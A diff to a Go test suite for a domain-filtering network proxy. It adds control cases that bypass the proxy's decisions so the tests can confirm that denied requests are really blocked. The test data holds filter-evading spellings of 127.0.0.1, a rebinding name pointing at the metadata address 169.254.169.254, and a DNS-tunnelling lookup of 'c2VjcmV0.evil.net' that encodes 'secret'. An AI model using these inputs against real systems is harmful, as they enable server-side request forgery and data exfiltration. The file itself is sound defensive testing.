@@ -53,6 +53,14 @@ func newProxied(t *testing.T, n NetProfile, names map[string]string) *proxied {
 	return c
 }
 
+// open takes the decisions away, and sends all connections to one place.
+func (c *proxied) open(to string) {
+	c.proxy.unchecked = true
+	c.proxy.reach = func(ctx context.Context, network, _ string) (net.Conn, error) {
+		return new(net.Dialer).DialContext(ctx, network, to)
+	}
+}
+
 func (c *proxied) last() Decision {
 	c.mu.Lock()
 	defer c.mu.Unlock()
@@ -74,10 +82,17 @@ func TestProxyAllowsAndRefuses(t *testing.T) {
 	secure := httptest.NewTLSServer(web.Config.Handler)
 	defer secure.Close()
 	port := func(s *httptest.Server) string { _, p, _ := net.SplitHostPort(s.Listener.Addr().String()); return p }
-	c := newProxied(t, NetProfile{
+	profile := NetProfile{
 		AllowedDomains: []string{"127.0.0.1", "localhost:" + port(web), "*.example.org", "rebound.example.com"},
 		DeniedDomains:  []string{"bad.example.org"},
-	}, map[string]string{"localhost": "127.0.0.1", "rebound.example.com": "169.254.169.254", "in.example.org": "10.0.0.1"})
+	}
+	names := map[string]string{"localhost": "127.0.0.1", "rebound.example.com": "169.254.169.254", "in.example.org": "10.0.0.1"}
+	c := newProxied(t, profile, names)
+	for _, spelled := range []string{"other.net", "bad.example.org", "example.org", "2130706433", "0177.0.0.1", "127.1"} {
+		names[spelled] = "127.0.0.1" // as C libraries take the last three
+	}
+	open := newProxied(t, profile, names)
+	open.open(web.Listener.Addr().String())
 	for name, want := range map[string]struct {
 		url, rule string
 		ok        bool
@@ -117,6 +132,15 @@ func TestProxyAllowsAndRefuses(t *testing.T) {
 			if d := c.last(); d.Allowed != want.ok || d.Rule != want.rule {
 				t.Errorf("decided %+v", d)
 			}
+			if want.ok {
+				return
+			}
+			if r, err = open.client.Get(want.url); err != nil {
+				t.Fatalf("without a decision: %v", err)
+			}
+			if r.Body.Close(); r.StatusCode != 200 {
+				t.Errorf("is stopped by something else: %s", r.Status)
+			}
 		})
 	}
 	// A mapped spelling of an allowed address is that address.
@@ -147,6 +171,18 @@ func TestNoTunnelThroughDNS(t *testing.T) {
 		if d := c.last(); d.Allowed || d.Rule != RuleDefault && d.Rule != "network.deniedDomains[0]" {
 			t.Errorf("%s: decided %+v", url, d)
 		}
+	}
+	open, asked := newProxied(t, NetProfile{}, nil), make(chan string, 1)
+	open.open("")
+	open.proxy.resolve = func(_ context.Context, host string) ([]netip.Addr, error) {
+		asked <- host
+		return nil, errors.New("not here")
+	}
+	if r, err := open.client.Get("http://c2VjcmV0.evil.net/"); err == nil {
+		r.Body.Close()
+	}
+	if len(asked) != 1 {
+		t.Error("without a decision the name is not looked up either")
 	}
 }
 
@@ -187,6 +223,15 @@ func TestTunnelsAreForTheHostThatWasAskedFor(t *testing.T) {
 			}
 			if d := c.last(); d.Allowed != want.ok {
 				t.Errorf("decided %+v", d)
+			}
+			if !want.ok {
+				decided := c
+				defer func() { c = decided }()
+				c = newProxied(t, NetProfile{}, map[string]string{"localhost": "127.0.0.1"})
+				c.open(at)
+				if err := tls.Client(tunnel(t, want.target), &tls.Config{ServerName: want.sni, InsecureSkipVerify: true}).Handshake(); err != nil {
+					t.Errorf("is stopped by something else: %v", err)
+				}
 			}
 		})
 	}
